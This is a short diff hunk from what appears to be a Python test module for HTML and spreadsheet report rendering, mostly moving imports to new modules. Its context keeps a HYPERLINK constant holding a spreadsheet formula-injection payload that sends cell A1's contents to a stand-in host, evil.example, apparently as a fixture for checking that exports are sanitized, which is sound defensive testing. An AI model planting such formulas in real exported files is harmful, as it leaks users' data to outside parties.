@@ -6,15 +6,15 @@ from datetime import UTC, date, datetime
 
 import openpyxl
 
-from upstream.evidence.records import ItemDraft
 from upstream.frameworks import load_codebook
 from upstream.policy import FEWER_THAN, Quote, safe_text, shown_count
-from upstream.reports import build_report_data, render_html, render_xlsx
-from upstream.reports.build import gather
+from upstream.records.drafts import ItemDraft
+from upstream.reports import render_html, render_xlsx
 from upstream.reports.model import MatrixRow, QuoteGroup, ReportData
 from upstream.reports.tables import report_tables
 from upstream.store import Store
 from upstream.workflows.coding import code_workspace
+from upstream.workflows.reports import build_report_data, gather
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 
